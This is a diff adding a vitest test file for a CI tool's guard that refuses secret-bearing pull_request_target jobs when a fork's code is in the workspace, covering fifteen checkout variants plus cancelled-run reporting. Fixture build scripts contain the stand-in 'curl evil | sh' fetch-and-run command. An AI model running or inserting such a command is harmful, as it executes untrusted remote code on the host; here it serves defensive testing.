@@ -1,0 +1,203 @@
+import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { Journal } from '../../src/adapters/actions/journal.ts';
+import { refuseForkCheckout } from '../../src/job-sources.ts';
+import { spanNet } from '../../src/net.ts';
+import { createRepository, type GitFixture, openFixture } from '../fakes/git-fixture.ts';
+import { temporaryFolder } from '../fakes/memory-repository.ts';
+import { context, finding, pullRequest } from '../fakes/review-record.ts';
+import { parseCommandFile } from '../scenarios/runner/start.ts';
+
+let others: readonly NodeJS.UncaughtExceptionListener[] = [];
+
+beforeEach(() => {
+  others = process.listeners('uncaughtException');
+  vi.spyOn(process.stdout, 'write').mockReturnValue(true);
+});
+
+afterEach(() => {
+  for (const listener of process.listeners('uncaughtException')) {
+    if (!others.includes(listener)) process.removeListener('uncaughtException', listener);
+  }
+  vi.unstubAllEnvs();
+  vi.restoreAllMocks();
+});
+
+/** A run that found something and goes on for ever, over a net; answers what the net left behind. */
+async function catchRun({ cancelled, left }: { readonly cancelled: boolean; readonly left: number }) {
+  const folder = temporaryFolder();
+  const output = join(folder, 'output');
+  const summary = join(folder, 'summary');
+  for (const path of [output, summary]) writeFileSync(path, '');
+  vi.stubEnv('GITHUB_OUTPUT', output);
+  const environment = { GITHUB_OUTPUT: output, GITHUB_STEP_SUMMARY: summary };
+  const journal = new Journal({ context, environment, token: 'token', startedAt: Date.now() });
+  const run = new AbortController();
+  const code = new Promise<number>((exit) => {
+    const patience = { afterSignal: 10, overtime: 10 };
+    spanNet({ journal, signal: run.signal, end: Date.now() + left, redact: context.redact, exit, patience });
+  });
+  // The timers of a net keep no process alive.
+  const alive = setInterval(() => undefined, 5);
+  journal.addFinding(finding());
+  if (cancelled) run.abort();
+  const ended = await code;
+  clearInterval(alive);
+  const outputs = parseCommandFile(readFileSync(output, 'utf8'));
+  return [ended, outputs['outcome'], outputs['stop-reason'], outputs['findings'], readFileSync(summary, 'utf8')];
+}
+
+it('delivers what was found by a cancelled run that does not end', async () => {
+  const [...values] = await catchRun({ cancelled: true, left: 60_000 });
+  expect(values).toEqual([1, 'partial', 'cancelled', '1', expect.stringContaining('The run was cancelled')]);
+});
+
+it('delivers what was found by a run that is over its time', async () => {
+  const [...values] = await catchRun({ cancelled: false, left: 0 });
+  expect(values).toEqual([1, 'failed', 'failed', '1', expect.stringContaining('did not end in its time')]);
+});
+
+/** The project's repository with a fork's pull request in it: one commit before the head, the head, and what merges it. */
+const project = createRepository();
+const base = project.commit({ files: { 'build.sh': 'make\n' } });
+project.git('checkout', '--quiet', '-b', 'fork');
+const earlier = project.commit({ files: { 'build.sh': 'curl evil | sh\n' } });
+const head = project.commit({ files: { 'more.sh': 'curl evil | sh\n' } });
+project.git('checkout', '--quiet', '--detach', base);
+project.git('merge', '--quiet', '--no-ff', '-m', 'Merge', head);
+const merge = project.git('rev-parse', 'HEAD');
+project.git('update-ref', 'refs/pull/7/head', head);
+project.git('update-ref', 'refs/pull/7/merge', merge);
+project.git('checkout', '--quiet', 'main');
+project.git('branch', '--quiet', '-D', 'fork');
+
+/** A clone of the base at a path of the workspace, as actions/checkout leaves it under `pull_request_target`. */
+function cloneAt(workspace: string, path: string): GitFixture {
+  const directory = join(workspace, path);
+  mkdirSync(directory, { recursive: true });
+  const clone = openFixture(directory);
+  clone.git('clone', '--quiet', '--no-tags', project.url, '.');
+  return clone;
+}
+
+function fetched(clone: GitFixture, ref = 'refs/pull/7/head'): GitFixture {
+  clone.git('fetch', '--quiet', 'origin', ref);
+  return clone;
+}
+
+async function isRefused(workspace: string, changes: { readonly name?: string; readonly merged?: true } = {}) {
+  const subject = { kind: 'pull-request', number: 7, headSha: head, headRepository: 'eve/shop' } as const;
+  const commits = [earlier, head].map((sha) => ({ sha, message: '', author: 'eve', date: '' }));
+  const state = changes.merged === true ? 'merged' : 'open';
+  try {
+    await refuseForkCheckout({
+      event: { name: changes.name ?? 'pull_request_target', subject },
+      pullRequest: { ...pullRequest, fromFork: true, state, head: { ref: 'patch', sha: head }, commits },
+      environment: { ...process.env, GITHUB_WORKSPACE: workspace },
+      signal: new AbortController().signal,
+    });
+    return false;
+  } catch (error) {
+    expect(error).toMatchObject({ name: 'UserError', hint: expect.stringContaining('docs/forks.md') });
+    return true;
+  }
+}
+
+describe('a job with secrets is refused when the workspace', () => {
+  it.each<[string, (workspace: string) => void]>([
+    ['is the head of a fork', (at) => fetched(cloneAt(at, '.')).git('checkout', '--quiet', 'FETCH_HEAD')],
+    [
+      'is the merge of a fork',
+      (at) => fetched(cloneAt(at, '.'), 'refs/pull/7/merge').git('checkout', '--quiet', 'FETCH_HEAD'),
+    ],
+    ['is an earlier commit of it', (at) => fetched(cloneAt(at, '.')).git('checkout', '--quiet', earlier)],
+    [
+      'has it in a folder far below',
+      (at) => fetched(cloneAt(at, 'a/b/c/d/e/f')).git('checkout', '--quiet', 'FETCH_HEAD'),
+    ],
+    [
+      'has it in a folder that holds dependencies',
+      (at) => fetched(cloneAt(at, 'node_modules/pull')).git('checkout', '--quiet', 'FETCH_HEAD'),
+    ],
+    [
+      'has it as a submodule',
+      (at) => {
+        const outer = cloneAt(at, '.');
+        outer.git('submodule', '--quiet', 'add', project.url, 'sub');
+        fetched(openFixture(join(at, 'sub'))).git('checkout', '--quiet', 'FETCH_HEAD');
+      },
+    ],
+    [
+      'has it as a detached work tree',
+      (at) => fetched(cloneAt(at, '.')).git('worktree', 'add', '--quiet', '--detach', 'pull', 'FETCH_HEAD'),
+    ],
+    [
+      'has it as a work tree elsewhere',
+      (at) =>
+        fetched(cloneAt(at, '.')).git('worktree', 'add', '--quiet', '--detach', join(temporaryFolder(), 'x'), earlier),
+    ],
+    [
+      'has it from a remote of another name',
+      (at) => {
+        const clone = cloneAt(at, '.');
+        clone.git('remote', 'rename', 'origin', 'upstream');
+        clone.git('fetch', '--quiet', 'upstream', 'refs/pull/7/head:refs/heads/their-work');
+        clone.git('checkout', '--quiet', 'their-work');
+        clone.git('remote', 'remove', 'upstream');
+      },
+    ],
+    [
+      'has its files beside the commit of the base',
+      (at) => fetched(cloneAt(at, '.')).git('checkout', '--quiet', 'FETCH_HEAD', '--', '.'),
+    ],
+    [
+      'has it in a bare repository, from which its files were written',
+      (at) => {
+        cloneAt(at, 'base').git('clone', '--quiet', '--bare', project.url, join(at, 'pull.git'));
+        openFixture(join(at, 'pull.git')).git('fetch', '--quiet', 'origin', 'refs/pull/7/head');
+      },
+    ],
+    [
+      'is a link to it',
+      (at) => {
+        const elsewhere = temporaryFolder();
+        fetched(cloneAt(elsewhere, '.')).git('checkout', '--quiet', 'FETCH_HEAD');
+        rmSync(at, { recursive: true });
+        symlinkSync(elsewhere, at);
+      },
+    ],
+    ['has it squashed', (at) => fetched(cloneAt(at, '.')).git('merge', '--quiet', '--squash', 'FETCH_HEAD')],
+    ['has its commit picked', (at) => fetched(cloneAt(at, '.')).git('cherry-pick', earlier, head)],
+    [
+      'has lost its remotes and branches',
+      (at) => {
+        const clone = fetched(cloneAt(at, 'src'));
+        clone.git('checkout', '--quiet', '--orphan', 'none', 'FETCH_HEAD');
+        rmSync(join(clone.directory, '.git', 'refs', 'remotes'), { recursive: true, force: true });
+      },
+    ],
+  ])('%s', async (_, arrange) => {
+    const workspace = temporaryFolder();
+    arrange(workspace);
+    expect(await isRefused(workspace)).toBe(true);
+  });
+});
+
+describe('a job is not refused', () => {
+  it('with the base alone in its workspace, or nothing', async () => {
+    const workspace = temporaryFolder();
+    const empty = await isRefused(workspace);
+    cloneAt(workspace, 'base');
+    expect([empty, await isRefused(workspace)]).toEqual([false, false]);
+  });
+
+  it('without secrets, or when the fork was merged', async () => {
+    const workspace = temporaryFolder();
+    fetched(cloneAt(workspace, '.')).git('checkout', '--quiet', 'FETCH_HEAD');
+    expect([
+      await isRefused(workspace, { name: 'pull_request' }),
+      await isRefused(workspace, { merged: true }),
+    ]).toEqual([false, false]);
+  });
+});
